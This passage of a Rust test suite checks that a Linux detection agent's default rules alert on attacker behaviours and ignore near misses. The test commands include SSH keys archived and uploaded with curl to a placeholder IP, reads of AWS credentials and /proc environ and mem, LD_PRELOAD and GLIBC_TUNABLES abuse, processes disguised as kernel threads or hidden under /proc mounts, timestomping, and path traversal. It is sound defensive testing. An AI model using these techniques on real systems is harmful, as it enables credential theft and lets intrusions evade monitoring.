            // The same upload after archiving ordinary data; then after
            // archiving SSH keys.
            |e| {
                std::fs::create_dir_all(e.path("data")).unwrap();
                write_file(&e.path("data/notes"));
                let curl = e.copy("/bin/true", "curl");
                let tag = unique("near-exfil");
                let out = e.path(&unique("data.tar"));
                sh(&format!(
                    "tar cf {out} -C {dir} data; {curl} -T {out} http://203.0.113.9/ {tag}; true",
                    out = out.display(),
                    dir = e.dir.path().display(),
                    curl = curl.display()
                ));
                b(argv_has(tag))
            },
            |e| {
                std::fs::create_dir_all(e.path("keys/.ssh")).unwrap();
                write_file(&e.path("keys/.ssh/id_test"));
                let curl = e.copy("/bin/true", "curl");
                let tag = unique("exfil");
                let out = e.path(&unique("keys.tar"));
                sh(&format!(
                    "tar cf {out} -C {dir} .ssh; {curl} -T {out} http://203.0.113.9/ {tag}; true",
                    out = out.display(),
                    dir = e.path("keys").display(),
                    curl = curl.display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Cloud or tool credentials read",
            |e| {
                std::fs::create_dir_all(e.path("home/.aws")).unwrap();
                write_file(&e.path("home/.aws/notes"));
                b(pid_is(run(
                    Command::new("cat").arg(e.path("home/.aws/notes"))
                )))
            },
            |e| {
                std::fs::create_dir_all(e.path("home/.aws")).unwrap();
                write_file(&e.path("home/.aws/credentials"));
                b(pid_is(run(
                    Command::new("cat").arg(e.path("home/.aws/credentials"))
                )))
            },
        ),
        case(
            "Process environment or memory read",
            |_| b(pid_is(read_of_a_child("status"))),
            |_| b(pid_is(read_of_a_child("environ"))),
        ),
        case(
            "Process environment or memory read",
            |_| b(pid_is(run(Command::new("cat").arg("/proc/self/environ")))),
            |_| b(pid_is(read_of_a_child("mem"))),
        ),
        case(
            "Library preloaded through the environment",
            |_| {
                let tag = unique("near-preload");
                b(argv_has_via(
                    sh(&format!("FOO=/tmp/x.so exec /bin/true {tag}")),
                    tag,
                ))
            },
            |_| {
                let tag = unique("preload");
                b(argv_has_via(
                    sh(&format!(
                        "LD_PRELOAD=/nonexistent/vigil.so exec /bin/true {tag} 2>/dev/null"
                    )),
                    tag,
                ))
            },
        ),
        case(
            "Glibc tunables passed to a setuid program",
            // The variable for an ordinary program as a user; then for su,
            // setuid root (su --version exits at once).
            |_| {
                b(pid_is(run(Command::new("setpriv")
                    .args([
                        "--reuid",
                        "1000",
                        "--regid",
                        "1000",
                        "--clear-groups",
                        "/bin/true",
                    ])
                    .env("GLIBC_TUNABLES", "glibc.malloc.mxfast=0"))))
            },
            |_| {
                b(pid_is(run(Command::new("setpriv")
                    .args([
                        "--reuid",
                        "1000",
                        "--regid",
                        "1000",
                        "--clear-groups",
                        "/bin/su",
                        "--version",
                    ])
                    .env("GLIBC_TUNABLES", "glibc.malloc.mxfast=0"))))
            },
        ),
        case(
            "Downloader run through a proxy from its environment",
            |e| {
                let curl = e.copy("/bin/true", "curl");
                // Small environments: the probe keeps the first 4 KiB, and
                // the test's own (cargo's) is larger.
                b(pid_is(run(Command::new(&curl)
                    .arg("http://203.0.113.9/")
                    .env_clear()
                    .env("NO_PROXY", "*"))))
            },
            |e| {
                let curl = e.copy("/bin/true", "curl");
                b(pid_is(run(Command::new(&curl)
                    .arg("http://203.0.113.9/")
                    .env_clear()
                    .env("https_proxy", "http://198.51.100.3:3128"))))
            },
        ),
        case(
            "Process disguised as a kernel thread",
            |_| {
                let tag = unique("near-kthread");
                b(argv_has_via(
                    bash(&format!("exec -a worker-1 /bin/true {tag}")),
                    tag,
                ))
            },
            |_| {
                let tag = unique("kthread");
                b(argv_has_via(
                    bash(&format!("exec -a '[kworker/0:1]' /bin/true {tag}")),
                    tag,
                ))
            },
        ),
        case(
            "Process disguised as a kernel thread",
            // The same disguise taken after start, with prctl.
            |_| b(pid_is(helper(&["prctl-name", "worker-1"]))),
            |_| b(pid_is(helper(&["prctl-name", "kworker/0:2"]))),
        ),
        case(
            "Process hidden by a mount over its /proc entry",
            // In a mount namespace of the test's own, so nothing outlives
            // it: a tmpfs on a scratch directory, then on a live process's
            // /proc entry.
            |e| {
                let tag = unique("near-proc-mount");
                let dir = e.path(&tag);
                std::fs::create_dir(&dir).unwrap();
                sh(&format!(
                    "unshare -m sh -c 'mount -t tmpfs {tag} {}'",
                    dir.display()
                ));
                b(argv_has(tag))
            },
            |_| {
                let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
                let tag = unique("proc-mount");
                sh(&format!(
                    "unshare -m sh -c 'mount -t tmpfs {tag} /proc/{}'",
                    victim.id()
                ));
                let _ = victim.kill();
                let _ = victim.wait();
                b(argv_has(tag))
            },
        ),
        case(
            "Process hidden by a mount over its /proc entry",
            // The same with the new mount API (fsmount, move_mount).
            |e| {
                let tag = unique("near-move-mount");
                let dir = e.path(&tag);
                std::fs::create_dir(&dir).unwrap();
                b(pid_is(run(Command::new("unshare")
                    .args(["-m", "--propagation", "private"])
                    .arg(bin("vigil-test-helper"))
                    .arg("move-mount-tmpfs")
                    .arg(&dir))))
            },
            |_| {
                let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
                let pid = run(Command::new("unshare")
                    .args(["-m", "--propagation", "private"])
                    .arg(bin("vigil-test-helper"))
                    .arg("move-mount-tmpfs")
                    .arg(format!("/proc/{}", victim.id())));
                let _ = victim.kill();
                let _ = victim.wait();
                b(pid_is(pid))
            },
        ),
        case(
            "Hidden executable run",
            |e| {
                let prog = e.copy("/bin/true", &unique("visible"));
                let tag = unique("near-hidden-exe");
                run(Command::new(&prog).arg(&tag));
                b(argv_has(tag))
            },
            |e| {
                let prog = e.copy("/bin/true", &format!(".{}", unique("hidden")));
                let tag = unique("hidden-exe");
                run(Command::new(&prog).arg(&tag));
                b(argv_has(tag))
            },
        ),
        case(
            "Burst of discovery commands",
            // Seven different discovery commands, some twice, from one
            // shell: under the threshold of eight. Then eight.
            |_| {
                let tag = unique("near-discovery");
                sh(&format!(
                    "sh -c 'id; whoami; id; uname -a; nproc; groups; arch; uname; df >/dev/null; true' {tag}"
                ));
                b(parent_argv_has(tag))
            },
            |_| {
                let tag = unique("discovery");
                sh(&format!(
                    "sh -c 'id; whoami; uname -a; nproc; groups; arch; df >/dev/null; who; true' {tag}"
                ));
                b(parent_argv_has(tag))
            },
        ),
        case(
            "Mass deletion or renaming of files in data directories",
            // 90 files deleted from a data directory (under the threshold
            // of 100), then 120.
            |_| b(argv_has(mass_delete("near-mass-delete", 90))),
            |_| b(argv_has(mass_delete("mass-delete", 120))),
        ),
        case(
            "File timestamps set by hand in a system directory",
            // A file of the test's own in /etc: touched to now, then
            // backdated to another file's times.
            |_| {
                let f = etc_file("near-timestomp");
                let pid = run(Command::new("touch").arg(&f));
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
            |_| {
                let f = etc_file("timestomp");
                let pid = run(Command::new("touch").args(["-r", "/etc/hostname"]).arg(&f));
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
        ),
        case(
            "System utility run under another name",
            // A copy of `true` under its own name, then under another.
            |e| {
                let prog = e.copy("/bin/true", "true");
                let tag = unique("near-renamed");
                run(Command::new(&prog).arg(&tag));
                b(argv_has(tag))
            },
            |e| {
                let prog = e.copy("/bin/true", &unique("kworker"));
                let tag = unique("renamed");
                run(Command::new(&prog).arg(&tag));
                b(argv_has(tag))
            },
        ),
        case(
            "Container started with a sensitive host path mounted",
            // A container of the test's own: a tmpfs root holding /usr,
            // pivoted into, with a host directory mounted at /mnt/data:
            // a harmless one, then /etc.
            |e| {
                let tag = unique("near-sensitive-mount");
                let src = e.path(&tag);
                std::fs::create_dir(&src).unwrap();
                in_container(&pivoted_container(&src.display().to_string(), &tag));
                b(argv_has(tag))
            },
            |_| {
                let tag = unique("sensitive-mount");
                in_container(&pivoted_container("/etc", &tag));
                b(argv_has(tag))
            },
        ),
        case(
            "Sensitive file read through a path traversal",
            // /etc/hostname by its absolute path, then climbing to it from
            // the scratch directory (two levels below /).
            |e| {
                b(pid_is(run(Command::new(bin("vigil-test-helper"))
                    .args(["open", "/etc/hostname", "r"])
                    .current_dir(e.dir.path()))))
            },
            |e| {
                b(pid_is(run(Command::new(bin("vigil-test-helper"))
                    .args(["open", "../../../etc/hostname", "r"])
                    .current_dir(e.dir.path()))))
            },
        ),
        case(
            "Datagrams sent to many destinations",
            // One UDP socket sending to 60 ports of 127.0.0.1, then to 150
            // (each new destination is one event: fd.name_changed).
            |_| b(pid_is(helper(&["udp-spray", "60", "41000"]))),
            |_| b(pid_is(helper(&["udp-spray", "150", "42000"]))),
        ),
        case(
            "Program deleted its own executable",
            // A copy of the helper deletes another file, then its own
            // program file.
            |e| {
                let prog = e.copy(bin("vigil-test-helper").to_str().unwrap(), "dropper-near");
                let other = e.path(&unique("other-file"));
                write_file(&other);
                b(pid_is(run(Command::new(&prog).arg("unlink").arg(&other))))
            },
            |e| {
                let prog = e.copy(bin("vigil-test-helper").to_str().unwrap(), "dropper");
                b(pid_is(run(Command::new(&prog).arg("unlink").arg(&prog))))
            },
        ),
    ]
}

/// A script that starts a container the way a runtime does: a new mount
/// namespace whose root is a tmpfs holding the host's /usr (and the
/// merged-/usr links) and `src` at /mnt/data, pivoted into, a /proc of
/// its own mounted (umount reads it) and the old root detached; then
/// process 1 of a new pid namespace lives a second (the agent reads its
/// mount table while it runs, as it would a container's entry point) and
/// runs `true TAG`.
fn pivoted_container(src: &str, tag: &str) -> String {
    let root = format!("/tmp/{tag}-root");
    format!(
        "mkdir -p {root} && unshare -m sh -c '\
         mount --make-rprivate / && mount -t tmpfs vigil-root {root} && \
         mkdir -p {root}/usr {root}/old {root}/proc {root}/mnt/data && \
         ln -s usr/bin {root}/bin && ln -s usr/lib {root}/lib && \
         ln -s usr/lib64 {root}/lib64 && ln -s usr/sbin {root}/sbin && \
         mount --rbind /usr {root}/usr && mount --bind {src} {root}/mnt/data && \
         cd {root} && pivot_root . old && mount -t proc proc /proc && umount -l /old && \
         exec unshare -pf sh -c \"sleep 1; true {tag}\"'; rmdir {root}"
    )
}

/// A new file of the test's own below /etc.
fn etc_file(tag: &str) -> PathBuf {
    let f = PathBuf::from("/etc").join(unique(tag));
    write_file(&f);
    f
}

/// Makes `n` files in a fresh directory below /srv (a data directory),
/// then removes the directory with `rm -r`; returns the directory's
/// name, which is in rm's arguments.
fn mass_delete(tag: &str, n: usize) -> String {
    let tag = unique(tag);
    let dir = PathBuf::from("/srv").join(&tag);
    std::fs::create_dir_all(&dir).unwrap();
    for i in 0..n {
        write_file(&dir.join(format!("f{i}")));
    }
    // Two shells between rm and the test: cargo, a build tool, is then
    // no nearer than rm's fourth ancestor (a build's own `rm -rf` is
    // excused by its parent or grandparent).
    sh(&format!("sh -c 'rm -r {}; true'; true", dir.display()));
    let _ = std::fs::remove_dir_all(&dir);
    tag
}

/// Matches the events of the process `pid` whose arguments hold `tag`
/// (a shell that execs keeps its pid).
fn argv_has_via(pid: u32, tag: String) -> impl Fn(&Value) -> bool {
    let has = argv_has(tag);
    move |v: &Value| v["process"]["pid"] == pid && has(v)
}

/// `cat /proc/PID/FILE` of a child the test starts (and stops); the pid of
/// cat.
fn read_of_a_child(file: &str) -> u32 {
    let mut child = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = run(Command::new("cat").arg(format!("/proc/{}/{file}", child.id())));
    let _ = child.kill();
    let _ = child.wait();
    pid
}

/// Opens a file of the test's own below /hostfs (made for the test, and
/// removed after when it did not exist), in a container or on the host.
fn host_path_open(container: bool, tag: &str) -> Pred {
    let dir = Path::new("/hostfs");
    let made = !dir.exists();
    std::fs::create_dir_all(dir).unwrap();
    let f = dir.join(unique("vigil-test"));
    write_file(&f);
    let tag = unique(tag);
    let script = format!(
        "exec {} open {} r {tag}",
        bin("vigil-test-helper").display(),
        f.display()
    );
    if container {
        in_container(&script);
    } else {
        sh(&script);
    }
    let _ = std::fs::remove_file(&f);
    if made {
        let _ = std::fs::remove_dir(dir);
    }
    b(argv_has(tag))
}

/// A copy of /bin/true named `name`, run on the host with a fresh tag
/// made from `tag`; matches its events.
fn on_host(e: &Env, name: &str, tag: &str) -> Pred {
    let prog = e.copy("/bin/true", name);
    let tag = unique(tag);
    run(Command::new(&prog).arg(&tag));
    b(argv_has(tag))
}

/// The same, run in a container.
fn in_a_container(e: &Env, name: &str, tag: &str) -> Pred {
    contained(e, "/bin/true", name, "", tag)
}

/// A copy of `src` named `name`, run in a container with `args` and a
/// fresh tag made from `tag`; matches its events.
fn contained(e: &Env, src: &str, name: &str, args: &str, tag: &str) -> Pred {
    let prog = e.copy(src, name);
    let tag = unique(tag);
    in_container(&format!("exec {} {args} {tag}", prog.display()));
    b(argv_has(tag))
}

/// Runs `script` in a shell that first moves itself into a new container
/// cgroup (a docker scope with a 64-digit id), then waits for it.
fn in_container(script: &str) {
    // The clock's low digits first: container.id is the first 12, and
    // each case needs a container of its own (dedup keys include it).
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let id = format!("{:012x}{:052x}", nanos & 0xffff_ffff_ffff, nanos);
    let cg = TestCgroup::new(&format!("docker-{id}.scope"));
    let script = format!("echo $$ > {}/cgroup.procs && {script}", cg.dir.display());
    assert!(Command::new("sh")
        .args(["-c", &script])
        .status()
        .unwrap()
        .success());
}

/// A network namespace with `addr` on its loopback, removed on drop.
struct NetNs {
    name: String,
}

impl NetNs {
    fn new(addr: &str) -> NetNs {
        let name = unique("vigil-ns");
        for args in [
            vec!["netns", "add", &name],
            vec!["-n", &name, "link", "set", "lo", "up"],
            vec![
                "-n",
                &name,
                "addr",
                "add",
                &format!("{addr}/32"),
                "dev",
                "lo",
            ],
        ] {
            let st = Command::new("ip").args(&args).status().unwrap();
            assert!(st.success(), "ip {args:?}");
        }
        NetNs { name }
    }
}

impl Drop for NetNs {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "del", &self.name])
            .status();
    }
}

/// The names of the rules in the default set.
fn default_rules() -> std::collections::BTreeSet<&'static str> {
    include_str!("../../rules/default.yaml")
        .lines()
        .filter_map(|l| l.strip_prefix("- rule: "))
        .map(str::trim)
        .collect()
}

#[test]
fn default_rules_detect_behaviours_and_ignore_near_misses() {
    if !kernel_tests_enabled("default_rules_detect_behaviours_and_ignore_near_misses") {
        return;
    }
    // The agent as it runs by default (the rules' kernel filter on), also
    // printing process events: they are the proof that each near miss was
    // seen. A container's first exec waits for its cgroup to resolve. This
    // kernel may lack module-loading tracepoints: the raw hooks follow
    // them.
    let wait = Duration::from_millis(2000);
    let agent = start_agent(&[
        "--events",
        "process",
        "--raw-syscall-hooks",
        "--drain-interval-ms",
        "10",
        "--enrich-wait-ms",
        &wait.as_millis().to_string(),
    ]);
    let dir = tempfile::Builder::new()
        .prefix("vigil-detect-")
        .tempdir_in("/tmp")
        .unwrap();
    let env = Env { agent, dir };
    let mut failures = Vec::new();
    let mut covered = std::collections::BTreeSet::new();
    let mut near_misses = Vec::new();
    for c in cases() {
        near_misses.push((c.rule, (c.near_miss)(&env)));
        let hit = (c.act)(&env);
        match env.alert(c.rule, hit) {
            None => failures.push(format!("`{}`: no alert for the behaviour", c.rule)),
            Some(a) => {
                covered.insert(c.rule);
                assert!(a["tags"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|t| t.as_str().unwrap().starts_with('T')));
            }
        }
    }
    // Everything above is matched and printed now: an alert that is not
    // here was never raised.
    env.agent.settle(wait);
    let lines = env.agent.json_lines();
    for (rule, quiet) in &near_misses {
        if !lines
            .iter()
            .any(|v| v["type"] != "alert" && (quiet.seen)(v))
        {
            failures.push(format!("`{rule}`: the near miss was never seen"));
        }
        let wrong = env.alerts_now(rule, &quiet.alert);
        if !wrong.is_empty() {
            failures.push(format!("`{rule}`: the near miss alerted: {wrong:#?}"));
        }
    }
    let uncovered: Vec<_> = default_rules()
        .into_iter()
        .filter(|r| !cases().iter().any(|c| c.rule == *r))
        .collect();
    if !uncovered.is_empty() {
        failures.push(format!(
            "rules of the default set without a detection case: {uncovered:?}"
        ));
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}\nagent log:\n{}",
        failures.len(),
        failures.join("\n"),
        env.agent.stderr_lines().join("\n")
    );
    eprintln!("covered {} rules: {covered:?}", covered.len());
}
